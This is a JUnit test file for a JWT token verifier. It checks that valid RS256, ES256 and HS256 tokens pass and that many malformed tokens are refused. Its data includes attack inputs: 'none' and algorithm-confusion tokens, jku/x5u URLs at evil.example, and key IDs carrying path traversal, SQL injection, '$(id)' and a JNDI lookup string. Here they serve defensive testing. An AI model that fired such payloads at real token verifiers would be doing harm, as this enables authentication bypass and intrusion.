package io.mooring.token;

import static io.mooring.token.Forge.CLAIMS;
import static io.mooring.token.Forge.header;
import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_16BE;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertInstanceOf;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.nimbusds.jose.JOSEException;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.jwk.OctetSequenceKey;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class TokenVerifierTest {
  private static final Forge FORGE = new Forge();
  private static final String RSA = header("RS256", "rsa");

  @TempDir Path folder;
  private TokenVerifier verifier;

  @BeforeEach
  void readKeys() throws IOException {
    verifier = verifier(Files.writeString(folder.resolve("jwks.json"), FORGE.jwks()));
  }

  @Test
  void aGoodTokenIsAcceptedWithItsClaims() {
    String claims =
        CLAIMS.replace(
            "\"jti\"", "\"tenant\":\"acme\",\"info\":{\"name\": \"Zoë\", \"n\":[1.50]},\"jti\"");

    assertEquals(
        new Verification.Accepted(
            new Claims(
                "u17",
                Optional.of("acme"),
                "client",
                new Channels(List.of("demo.*"), List.of()),
                1_790_003_600,
                1_790_000_000,
                Optional.of("t1"),
                "rsa",
                Optional.of("{\"name\":\"Zoë\",\"n\":[1.50]}"))),
        verifier.verify(FORGE.rs256(RSA, claims)));
  }

  @Test
  void eachAlgorithmVerifiesByItsOwnKey() {
    accepted(FORGE.rs256(RSA, CLAIMS));
    accepted(Forge.sign(header("ES256", "ec"), CLAIMS, JWSAlgorithm.ES256, FORGE.ec));
    accepted(Forge.sign(header("HS256", "secret"), CLAIMS, JWSAlgorithm.HS256, FORGE.secret));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      value = {
        "\"aud\":\"mooring\"    | \"aud\":[\"other\",\"mooring\"]",
        "\"jti\":\"t1\",        | ~",
        "\"jti\":\"t1\"         | \"nbf\":1790000030",
        "\"iat\":1790000000     | \"iat\":1790000030",
        "\"exp\":1790003600     | \"exp\":1790000001",
        "\"role\":\"client\"    | \"role\":\"admin\",\"groups\":[{\"deep\":1}]",
        ",\"channels\":{\"sub\":[\"demo.*\"],\"pub\":[]} | ~",
      })
  void whatTheGrammarAllowsIsAccepted(String part, String replacement) {
    accepted(FORGE.rs256(RSA, replaced(part, replacement)));
  }

  @ParameterizedTest
  @CsvSource({"501, true", "502, false"})
  void anInfoHasAtMost512Bytes(int letters, boolean accepted) {
    String info = "\"info\":{\"name\":\"" + "n".repeat(letters) + "\"},\"jti\"";
    Verification verification = verifier.verify(FORGE.rs256(RSA, CLAIMS.replace("\"jti\"", info)));

    assertEquals(accepted, verification instanceof Verification.Accepted);
  }

  @ParameterizedTest
  @ValueSource(strings = {"at+jwt", "AT+JWT", "jwt"})
  void theTypeIsComparedWithoutCase(String typ) {
    accepted(FORGE.rs256(RSA.replace("JWT", typ), CLAIMS));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      value = {
        "\"iss\":\"me\"      | \"iss\":\"you\"               | ISSUER        | iss is \"you\", expected \"me\"",
        "\"iss\":\"me\"      | \"iss\":[\"me\"]              | ISSUER        | iss is an array, expected a string",
        "\"iss\":\"me\",     | ~                             | ISSUER        | iss is missing",
        "\"aud\":\"mooring\" | \"aud\":\"Mooring\"           | AUDIENCE      | aud is \"Mooring\", expected \"mooring\"",
        "\"aud\":\"mooring\" | \"aud\":[]                    | AUDIENCE      | aud is missing",
        "\"aud\":\"mooring\" | \"aud\":[\"mooring\",1]       | AUDIENCE      | aud entry is a whole number",
        "\"aud\":\"mooring\" | \"aud\":{\"mooring\":1}       | AUDIENCE      | aud is an object",
        "\"exp\":1790003600, | ~                             | EXPIRED       | exp is missing",
        "1790003600          | \"1790003600\"                | EXPIRED       | exp is a string",
        "1790003600          | 1790003600.5                  | EXPIRED       | exp is a number with a fraction or an exponent",
        "1790003600          | 1790003600.0                  | EXPIRED       | exp is a number with a fraction or an exponent",
        "1790003600          | 1e300                         | EXPIRED       | exp is a number with a fraction or an exponent",
        "1790003600          | 99999999999999999999          | EXPIRED       | expected a whole number below 2^63",
        "1790003600          | 1790003600000                 | EXPIRED       | expected seconds since 1970, not milliseconds",
        "1790003600          | 1790000000                    | EXPIRED       | exp was 1790000000, now is 1790000000",
        "1790003600          | 0                             | EXPIRED       | exp was 0",
        "1790003600          | -1                            | EXPIRED       | exp was -1",
        "1790003600          | null                          | EXPIRED       | exp is null",
        "1790003600          | true                          | EXPIRED       | exp is true or false",
        "\"iat\":1790000000, | ~                             | NOT_YET_VALID | iat is missing",
        "\"iat\":1790000000  | \"iat\":1790000031            | NOT_YET_VALID | iat is 1790000031, now is 1790000000",
        "\"iat\":1790000000  | \"iat\":\"1790000000\"        | NOT_YET_VALID | iat is a string",
        "\"jti\":\"t1\"      | \"nbf\":1790000031            | NOT_YET_VALID | nbf is 1790000031",
        "\"jti\":\"t1\"      | \"nbf\":1e9                   | NOT_YET_VALID | nbf is a number with a fraction",
        "\"sub\":\"u17\",    | ~                             | SUBJECT       | sub is missing",
        "\"u17\"             | \"\"                          | SUBJECT       | sub is \"\"",
        "\"u17\"             | 17                            | SUBJECT       | sub is a whole number",
        "\"u17\"             | \"a b\"                       | SUBJECT       | sub is \"a b\", expected 1 to 128 of",
        "\"u17\"             | \"{u17}\"                     | SUBJECT       | sub is \"{u17}\"",
        "\"u17\"             | \"u\\u0000\"                  | SUBJECT       | sub is \"u?\"",
        "\"u17\"             | \"u\\r\\nx\"                  | SUBJECT       | sub is \"u??x\"",
        "\"u17\"             | \"u*\"                        | SUBJECT       | sub is \"u*\"",
        "\"u17\"             | \"ü\"                         | SUBJECT       | sub is \"?\"",
        "\"jti\":\"t1\"      | \"jti\":\"a b\"               | SUBJECT       | jti is \"a b\"",
        "\"jti\":\"t1\"      | \"tenant\":\"\"               | SUBJECT       | tenant is \"\"",
        "\"jti\":\"t1\"      | \"tenant\":null               | SUBJECT       | tenant is null",
        "\"jti\":\"t1\"      | \"info\":\"Zoe\"              | SUBJECT       | info is a string, expected an object",
        "\"client\"          | \"root\"                      | ROLE          | role is \"root\", expected client, publisher, view, operate or admin",
        "\"client\"          | [\"client\"]                  | ROLE          | role is an array",
        ",\"role\":\"client\" | ~                            | ROLE          | role is missing",
        "[\"demo.*\"]        | \"demo.*\"                    | CHANNELS      | channels.sub is a string, expected an array of strings",
        "[\"demo.*\"]        | [\"demo.*.x\"]                | CHANNELS      | channels.sub has \"demo.*.x\"",
        "[\"demo.*\"]        | [null]                        | CHANNELS      | channels.sub entry is null",
        "\"pub\":[]          | \"publish\":[]                | CHANNELS      | channels has \"publish\", expected sub and pub",
        "\"pub\":[]          | \"sub\":[\"*\"]               | PARSE         | the claims: a member is there twice",
        "\"sub\":\"u17\"     | \"sub\":\"u17\",\"sub\":\"root\" | PARSE      | the claims: a member is there twice",
        "\"sub\":\"u17\"     | \"sub\":\"u17\",\"s\\u0075b\":\"root\" | PARSE | the claims: a member is there twice",
        "\"jti\":\"t1\"      | \"x\":{\"y\":1,\"y\":2}       | PARSE         | the claims: a member is there twice",
        "\"iss\"             | 'iss'                         | PARSE         | the claims: not JSON at character 1",
        "\"jti\":\"t1\"      | \"jti\":NaN                   | PARSE         | the claims: not JSON at character",
        "\"iss\"             | /**/\"iss\"                   | PARSE         | the claims: not JSON at character",
        "\"pub\":[]}}        | \"pub\":[]}}{}                | PARSE         | text after the JSON object",
      })
  void aBadClaimIsRefusedAtItsStep(String part, String replacement, Step step, String detail) {
    refused(step, detail, FORGE.rs256(RSA, replaced(part, replacement)));
  }

  @Test
  void claimsThatAreNoObjectAreRefused() {
    refused(Step.PARSE, "not a JSON object", FORGE.rs256(RSA, "[" + CLAIMS + "]"));
    refused(Step.PARSE, "not a JSON object", FORGE.rs256(RSA, ""));
  }

  @Test
  void claimsNestedDeeperThanAnyNeedAreRefused() {
    String deep = "[".repeat(2000) + "]".repeat(2000);

    refused(
        Step.PARSE,
        "nested too deeply",
        FORGE.rs256(RSA, CLAIMS.replace("\"jti\":\"t1\"", "\"x\":" + deep)));
  }

  @Test
  void jsonInAnotherEncodingThanUtf8IsRefused() {
    String header = Base64Url.encode(RSA.getBytes(UTF_16BE));

    refused(
        Step.PARSE, "the header: not JSON", header + "." + Base64Url.encode(new byte[2]) + ".AA");
  }

  @Test
  void aSubjectHasAtMost128Characters() {
    accepted(FORGE.rs256(RSA, CLAIMS.replace("u17", "auth0|a.B_c:1@x~-")));
    accepted(FORGE.rs256(RSA, CLAIMS.replace("u17", "u".repeat(128))));
    refused(
        Step.SUBJECT,
        "expected 1 to 128",
        FORGE.rs256(RSA, CLAIMS.replace("u17", "u".repeat(129))));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"none", "None", "NONE", "nOnE", "", "HS512", "RS512", "PS256", "EdDSA", "rs256"})
  void anAlgorithmThatIsNotOneOfThreeIsRefused(String alg) {
    String signed = Forge.unsigned(header(alg, "rsa"), CLAIMS);

    refused(Step.ALGORITHM, "alg is \"" + alg + "\"", signed + ".");
    refused(Step.ALGORITHM, "expected RS256, ES256 or HS256", signed + ".AAAA");
    refused(Step.ALGORITHM, "", Forge.unsigned("{\"alg\":\"" + alg + "\"}", CLAIMS) + ".");
  }

  @Test
  void anAbsentSignatureIsRefusedUnderAnHonestAlgorithm() {
    refused(Step.SIGNATURE, "not made by key \"rsa\"", Forge.unsigned(RSA, CLAIMS) + ".");
    refused(
        Step.SIGNATURE,
        "not made by key \"ec\"",
        Forge.unsigned(header("ES256", "ec"), CLAIMS) + ".");
  }

  @Test
  void aPublicKeyIsNoSharedSecret() throws JOSEException {
    for (byte[] secret :
        List.of(
            FORGE.rsa.toRSAPublicKey().getEncoded(),
            FORGE.rsa.toPublicJWK().toJSONString().getBytes(US_ASCII),
            FORGE.rsa.getModulus().decode())) {
      var forged = new OctetSequenceKey.Builder(secret).build();
      refused(
          Step.ALGORITHM,
          "alg is HS256, but key \"rsa\" is for RS256",
          Forge.sign(header("HS256", "rsa"), CLAIMS, JWSAlgorithm.HS256, forged));
    }
  }

  @Test
  void aTokenCannotChooseAnotherAlgorithmOfItsKey() {
    refused(Step.ALGORITHM, "is for ES256", FORGE.rs256(header("RS256", "ec"), CLAIMS));
    refused(
        Step.SIGNATURE,
        "not made by key \"ec\"",
        Forge.sign(header("ES256", "ec"), CLAIMS, JWSAlgorithm.RS256, FORGE.rsa));
  }

  @Test
  void anAllZeroEcdsaSignatureIsRefused() {
    String signature = Base64Url.encode(new byte[64]);

    refused(Step.SIGNATURE, "", Forge.unsigned(header("ES256", "ec"), CLAIMS) + "." + signature);
  }

  @Test
  void aStrangersSignatureUnderAKnownKeyIdIsRefused() {
    refused(
        Step.SIGNATURE,
        "not made by key \"rsa\"",
        Forge.sign(RSA, CLAIMS, JWSAlgorithm.RS256, FORGE.strangerRsa));
  }

  @Test
  void theClaimsOfOneTokenDoNotPassUnderTheSignatureOfAnother() {
    String[] good = FORGE.rs256(RSA, CLAIMS).split("\\.");
    String other = Base64Url.encode(CLAIMS.replace("client", "admin").getBytes(US_ASCII));

    refused(Step.SIGNATURE, "", good[0] + "." + other + "." + good[2]);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "jku\":\"https://evil.example/jwks.json",
        "x5u\":\"https://evil.example/cert.pem",
        "jwk\":\"x",
        "x5c\":\"x"
      })
  void aKeyThatTheTokenBringsAlongIsRefused(String member) {
    String header = RSA.replace("\"typ\"", "\"" + member + "\",\"typ\"");

    refused(Step.KEY, "only keys of the JWKS are trusted", FORGE.rs256(header, CLAIMS));
  }

  @Test
  void anEmbeddedKeyDoesNotVerifyItsOwnToken() {
    String jwk = FORGE.strangerRsa.toPublicJWK().toJSONString();
    String header = RSA.replace("\"typ\"", "\"jwk\":" + jwk + ",\"typ\"");

    refused(
        Step.KEY,
        "the header has jwk",
        Forge.sign(header, CLAIMS, JWSAlgorithm.RS256, FORGE.strangerRsa));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "RSA",
        "rsa ",
        "../../../dev/null",
        "/dev/null",
        "rsa' OR '1'='1",
        "http://evil.example/k",
        "rsa\\u0000",
        "$(id)",
        "${jndi:ldap://evil.example}"
      })
  void aHostileKeyIdNamesNoKey(String kid) {
    refused(Step.KEY, "is not in the JWKS", FORGE.rs256(header("RS256", kid), CLAIMS));
  }

  @Test
  void aTokenWithoutKeyIdIsRefused() {
    refused(Step.KEY, "kid is missing", FORGE.rs256("{\"alg\":\"RS256\",\"typ\":\"JWT\"}", CLAIMS));
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '\0',
      value = {
        "\"typ\":\"JWT\" | \"typ\":\"JOSE\"                | TYPE  | typ is \"JOSE\", expected JWT or at+jwt",
        ",\"typ\":\"JWT\" | ~                              | TYPE  | typ is missing",
        "\"typ\":\"JWT\" | \"typ\":1                       | PARSE | the header: typ is a whole number",
        "\"typ\":\"JWT\" | \"typ\":\"JWT\",\"alg\":\"none\" | PARSE | the header: a member is there twice",
        "\"typ\":\"JWT\" | \"typ\":\"JWT\",\"crit\":[\"exp\"] | PARSE | crit",
        "\"typ\":\"JWT\" | \"typ\":\"JWT\",\"b64\":false,\"crit\":[\"b64\"] | PARSE | crit",
        "\"alg\":\"RS256\" | \"alg\":[\"RS256\"]           | PARSE | the header: alg is an array",
        "\"kid\":\"rsa\" | \"kid\":{\"a\":\"rsa\"}         | PARSE | the header: kid is an object",
      })
  void aBadHeaderIsRefused(String part, String replacement, Step step, String detail) {
    String header = RSA.replace(part, replacement.equals("~") ? "" : replacement);

    refused(step, detail, FORGE.rs256(header, CLAIMS));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        ".",
        "..",
        "...",
        "a",
        "a.b",
        "a.b.c.d",
        "a.b.c.d.e",
        "e30.e30.=",
        "e30=.e30.AA",
        "e 30.e30.AA",
        "e31.e30.AA",
        "e30.e30.AB",
        "ü.e30.AA"
      })
  void whatIsNoTokenIsRefused(String token) {
    assertInstanceOf(Verification.Refused.class, verifier.verify(token));
  }

  @Test
  void aSignatureHasOneSpelling() {
    String token = FORGE.rs256(RSA, CLAIMS);
    char last = token.charAt(token.length() - 1);
    String respelled = token.substring(0, token.length() - 1) + (char) (last + 1);

    accepted(token);
    refused(Step.PARSE, "base64url", respelled);
    refused(Step.PARSE, "base64url", token + "==");
    refused(Step.PARSE, "base64url", token + " ");
  }

  @Test
  void aTokenHasAtMost8Kib() {
    refused(Step.PARSE, "longer than 8192", "a".repeat(64 * 1024));
    refused(
        Step.PARSE,
        "longer than 8192",
        FORGE.rs256(RSA, CLAIMS.replace("\"t1\"", "\"" + "x".repeat(8192) + "\"")));
  }

  @Test
  void noChangedByteIsAccepted() {
    String token = FORGE.rs256(RSA, CLAIMS);
    Random random = new Random(42);

    for (int i = 0; i < 3000; i++) {
      StringBuilder changed = new StringBuilder(token);
      int at = random.nextInt(token.length());
      char other = (char) (33 + random.nextInt(94));
      changed.setCharAt(at, other);
      if (other != token.charAt(at)) {
        assertInstanceOf(
            Verification.Refused.class, verifier.verify(changed.toString()), changed.toString());
      }
    }
  }

  @Test
  void aRefusalNeverShowsTheToken() {
    String token = FORGE.rs256(RSA, CLAIMS.replace("client", "root"));
    var refusal = assertInstanceOf(Verification.Refused.class, verifier.verify(token));

    for (String part : token.split("\\.")) {
      assertTrue(!refusal.toString().contains(part.substring(0, 10)));
    }
  }

  private static TokenVerifier verifier(Path jwks) {
    return new TokenVerifier(
        new JwksFile(jwks), "me", "mooring", () -> Instant.ofEpochSecond(Forge.NOW));
  }

  private static String replaced(String part, String replacement) {
    assertTrue(CLAIMS.contains(part), part);
    return CLAIMS.replace(part, replacement.equals("~") ? "" : replacement);
  }

  private void accepted(String token) {
    assertInstanceOf(Verification.Accepted.class, verifier.verify(token));
  }

  private void refused(Step step, String detail, String token) {
    var refusal = assertInstanceOf(Verification.Refused.class, verifier.verify(token));
    assertEquals(step, refusal.step(), refusal.detail());
    assertTrue(refusal.detail().contains(detail), refusal.detail());
  }
}
